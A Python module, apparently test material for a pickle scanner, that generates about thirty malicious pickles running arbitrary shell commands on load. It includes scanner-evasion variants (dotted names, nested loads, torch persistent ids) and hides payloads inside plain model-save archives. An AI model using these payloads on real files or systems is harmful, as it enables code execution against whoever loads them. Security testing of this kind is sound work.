"""Pickles that run code when Python reads them, each leaving a canary if it could."""

from __future__ import annotations

import io
import pickle
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

Attack = Callable[[str], bytes]
"""From a shell command to a pickle that runs it."""


class Calls:
    """Pickles as a call of `module.name` with these arguments, looked up by whoever reads it."""

    def __init__(self, module: str, name: str, *arguments: Any) -> None:
        self.module, self.name, self.arguments = module, name, arguments

    def write(self) -> bytes:
        """Protocol 2 opcodes that leave the call's result on the stack."""
        return f"c{self.module}\n{self.name}\n".encode() + _tuple(self.arguments) + b"R"


def _value(value: Any) -> bytes:
    if isinstance(value, Calls):
        return value.write()
    if isinstance(value, Named):
        return f"c{value.module}\n{value.name}\n".encode()
    return pickle.dumps(value, protocol=2)[2:-1]


def _tuple(values: tuple[Any, ...]) -> bytes:
    return b"(" + b"".join(map(_value, values)) + b"t"


class Named:
    """A global itself, not called."""

    def __init__(self, module: str, name: str) -> None:
        self.module, self.name = module, name


def _call(module: str, name: str, *arguments: Any) -> bytes:
    return b"\x80\x02" + Calls(module, name, *arguments).write() + b"."


def _python(command: str) -> str:
    return f"__import__('os').system({command!r})"


def _getattr_chain(command: str) -> bytes:
    system = Calls("builtins", "getattr", Calls("builtins", "__import__", "os"), "system")
    return b"\x80\x02" + system.write() + _tuple((command,)) + b"R."


def _partial_with_state(command: str) -> bytes:
    """functools.partial around print, whose __setstate__ puts os.system in its place."""
    made = Calls("functools", "partial", Named("builtins", "print")).write()
    state = _tuple((Named("os", "system"), (command,), {}, {}))
    return b"\x80\x02" + made + state + b"b" + b")R."


def _inst(command: str) -> bytes:
    return f"(S{command!r}\nios\nsystem\n.".encode()


def _obj(command: str) -> bytes:
    return b"\x80\x02(csubprocess\nPopen\n" + _value(["sh", "-c", command]) + b"o."


def _newobj(command: str) -> bytes:
    return b"\x80\x04csubprocess\nPopen\n" + _tuple((["sh", "-c", command],)) + b"\x81."


def _newobj_ex(command: str) -> bytes:
    arguments = _tuple((["sh", "-c", command],))
    return b"\x80\x04csubprocess\nPopen\n" + arguments + b"}\x92."


def _dotted(command: str) -> bytes:
    """Protocol 4 looks up dotted names: from a module to all that it can reach."""
    module, name = (b"\x8c" + bytes([len(each)]) + each for each in (b"shutil", b"os.system"))
    return b"\x80\x04" + module + name + b"\x93" + _tuple((command,)) + b"R."


def _nested(module: str, name: str) -> Attack:
    def attack(command: str) -> bytes:
        return _call(module, name, _call("os", "system", command))

    return attack


def _numpy_load(command: str) -> bytes:
    """numpy.load of a .npy in memory that holds a pickle."""
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (), }".ljust(117) + b"\n"
    array = b"\x93NUMPY\x01\x00" + struct.pack("<H", 118) + header + _call("os", "system", command)
    file = Calls("io", "BytesIO", array)
    return _call("numpy", "load", file, None, True)


def _persistent(command: str) -> bytes:
    """A persistent id that is itself the result of a call."""
    inner = ("storage", Named("torch", "FloatStorage"), Calls("os", "system", command), "cpu", 1)
    return b"\x80\x02" + _tuple(inner) + b"Q."


ATTACKS: dict[str, Attack] = {
    "os.system": lambda c: _call("os", "system", c),
    "posix.system": lambda c: _call("posix", "system", c),
    "nt.system": lambda c: _call("nt", "system", c),
    "builtins.eval": lambda c: _call("builtins", "eval", _python(c)),
    "builtins.exec": lambda c: _call("builtins", "exec", _python(c)),
    "eval under its old name": lambda c: _call("__builtin__", "eval", _python(c)),
    "a chain of getattr": _getattr_chain,
    "subprocess.check_output": lambda c: _call("subprocess", "check_output", ["sh", "-c", c]),
    "subprocess.Popen by OBJ": _obj,
    "subprocess.Popen by NEWOBJ": _newobj,
    "subprocess.Popen by NEWOBJ_EX": _newobj_ex,
    "os.system by INST": _inst,
    "__setstate__ of a partial": _partial_with_state,
    "dotted names": _dotted,
    "numpy.load of a pickle": _numpy_load,
    "numpy's runstring": lambda c: _call(
        "numpy.testing._private.utils", "runstring", _python(c), {}
    ),
    "pandas.read_pickle": lambda c: _call("pandas", "read_pickle", f"/nowhere/{c}"),
    "pandas.eval": lambda c: _call("pandas.core.computation.eval", "eval", f"@{_python(c)}"),
    "torch.hub.load": lambda c: _call("torch.hub", "load", "/nowhere", c),
    "torch.load": lambda c: _call("torch", "load", "/nowhere"),
    "torch's own nested pickle": _nested("torch.storage", "_load_from_bytes"),
    "pickle.loads": _nested("pickle", "loads"),
    "importlib.import_module": lambda c: _call("importlib", "import_module", "antigravity"),
    "webbrowser.open": lambda c: _call("webbrowser", "open", "http://127.0.0.1:9/"),
    "runpy.run_path": lambda c: _call("runpy", "run_path", "/nowhere.py"),
    "pty.spawn": lambda c: _call("pty", "spawn", ["sh", "-c", c]),
    "code in a persistent id": _persistent,
    "timeit.timeit": lambda c: _call(
        "timeit", "timeit", _python(c), "pass", Named("time", "time"), 1
    ),
    "types.FunctionType": lambda c: _call("types", "FunctionType", Named("marshal", "loads"), {}),
}


def archive(pickled: bytes, root: str = "archive", **entries: bytes) -> bytes:
    """A zip as torch.save writes it, around any pickle."""
    found = io.BytesIO()
    with zipfile.ZipFile(found, "w") as file:
        file.writestr(f"{root}/data.pkl", pickled)
        file.writestr(f"{root}/byteorder", b"little")
        file.writestr(f"{root}/version", b"3\n")
        for name, data in entries.items():
            file.writestr(f"{root}/{name.replace('__', '/')}", data)
    return found.getvalue()


def inside_a_save(pickled: bytes) -> bytes:
    """The attack as one attribute of an otherwise plain save, where a reader comes late to it."""
    body = pickled.removeprefix(pickled[:2])[:-1] if pickled[:1] == b"\x80" else pickled[:-1]
    head = _value("model_state_dict") + b"}" + _value("var_names") + b"]"
    attributes = _value("attr_dict") + b"}(" + _value("history_") + body + b"u"
    return b"\x80\x04}(" + head + attributes + b"u."


def write(path: Path, data: bytes) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    return path
